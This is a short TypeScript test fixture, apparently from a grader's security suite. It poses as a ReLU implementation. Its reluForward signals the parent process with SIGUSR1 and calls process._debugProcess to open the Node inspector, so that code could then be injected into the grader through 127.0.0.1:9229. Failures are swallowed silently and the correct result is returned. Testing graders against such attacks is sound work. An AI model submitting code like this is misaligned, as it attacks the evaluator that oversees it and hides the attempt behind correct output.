/**
 * Hostile: asks the grader to open its inspector (SIGUSR1 to the parent, as `node --inspect` on
 * demand; and process._debugProcess, which does the same), so that it could then connect to
 * 127.0.0.1:9229 and run code in the grader. Returns a correct relu otherwise.
 */
import { reluForward as correct } from './relu';

export function reluForward(x: Parameters<typeof correct>[0]) {
  for (const attack of [
    () => process.kill(process.ppid, 'SIGUSR1'),
    () => (process as unknown as { _debugProcess(pid: number): void })._debugProcess(process.ppid),
  ]) {
    try {
      attack();
    } catch {
      // Refused: try the next.
    }
  }
  return correct(x);
}

export { reluBackward } from './relu';
